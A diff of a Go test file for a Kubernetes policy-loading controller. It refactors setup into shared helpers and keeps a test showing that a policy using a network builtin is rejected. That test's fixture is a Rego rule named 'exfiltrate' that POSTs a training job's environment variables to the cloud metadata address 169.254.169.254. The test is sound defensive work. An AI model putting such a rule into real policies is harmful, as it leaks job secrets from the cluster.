@@ -66,28 +66,41 @@ func status(t *testing.T, c client.Client, name string) string {
 	return cm.Annotations[AnnotationStatus]
 }
 
-func TestReloadFromConfigMaps(t *testing.T) {
-	ctx := context.Background()
+// newLoader is a loader over the embedded policies and a fake client holding
+// objs, its reporter wired as SetupWithManager does.
+func newLoader(t *testing.T, objs ...client.Object) (*Reconciler, client.Client) {
+	t.Helper()
 	base, err := engine.DefaultPolicySet()
 	if err != nil {
 		t.Fatal(err)
 	}
-	eng, err := engine.New(ctx, base, engine.Options{})
+	eng, err := engine.New(context.Background(), base, engine.Options{})
 	if err != nil {
 		t.Fatal(err)
 	}
+	c := fake.NewClientBuilder().WithScheme(scheme.Scheme).WithObjects(objs...).Build()
+	return &Reconciler{Client: c, Engine: eng, Namespace: ns, Base: base, Status: &StatusReporter{Client: c, Recorder: events.NewFakeRecorder(100)}}, c
+}
+
+// load runs one load and, as on the leader, reports its outcome.
+func load(t *testing.T, r *Reconciler) {
+	t.Helper()
+	if _, err := r.Reconcile(context.Background(), ctrl.Request{}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := r.Status.Reconcile(context.Background(), ctrl.Request{}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestReloadFromConfigMaps(t *testing.T) {
+	ctx := context.Background()
+	r, c := newLoader(t)
+	eng := r.Engine
 	defaultVersion := eng.Version()
-	c := fake.NewClientBuilder().WithScheme(scheme.Scheme).Build()
-	r := &Reconciler{Client: c, Engine: eng, Namespace: ns, Base: base, Status: &StatusReporter{Client: c, Recorder: events.NewFakeRecorder(100)}}
 	reconcile := func() {
 		t.Helper()
-		if _, err := r.Reconcile(ctx, ctrl.Request{}); err != nil {
-			t.Fatal(err)
-		}
-		// As on the leader: the outcome is reported.
-		if _, err := r.Status.Reconcile(ctx, ctrl.Request{}); err != nil {
-			t.Fatal(err)
-		}
+		load(t, r)
 	}
 	if !allowed(t, eng, 8) {
 		t.Fatal("the defaults deny an 8-node job")
@@ -164,30 +177,16 @@ func TestReloadFromConfigMaps(t *testing.T) {
 // env) is rejected like any compile error: the status annotation names the
 // builtin at file:row, and the last good set keeps serving.
 func TestReloadRejectsSandboxedBuiltin(t *testing.T) {
-	ctx := context.Background()
-	base, err := engine.DefaultPolicySet()
-	if err != nil {
-		t.Fatal(err)
-	}
-	eng, err := engine.New(ctx, base, engine.Options{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	serving := eng.Version()
 	exfiltrate := policyConfigMap("exfiltrate", KindRego, map[string]string{"exfiltrate.rego": `package mpiguard.policies.exfiltrate
 
 deny contains "never" if {
 	http.send({"method": "POST", "url": "http://169.254.169.254/", "body": input.trainJob.env}).status_code < 0
 }
 `})
-	c := fake.NewClientBuilder().WithScheme(scheme.Scheme).WithObjects(exfiltrate).Build()
-	r := &Reconciler{Client: c, Engine: eng, Namespace: ns, Base: base, Status: &StatusReporter{Client: c, Recorder: events.NewFakeRecorder(100)}}
-	if _, err := r.Reconcile(ctx, ctrl.Request{}); err != nil {
-		t.Fatal(err)
-	}
-	if _, err := r.Status.Reconcile(ctx, ctrl.Request{}); err != nil {
-		t.Fatal(err)
-	}
+	r, c := newLoader(t, exfiltrate)
+	eng := r.Engine
+	serving := eng.Version()
+	load(t, r)
 	want := "rejected: policy compile error: exfiltrate/exfiltrate.rego:4: builtin http.send is not allowed by mpiguard's policy sandbox: it makes network requests from mpiguard's pod; still serving policy set " + serving
 	if got := status(t, c, "exfiltrate"); got != want {
 		t.Errorf("status = %q\nwant       %q", got, want)
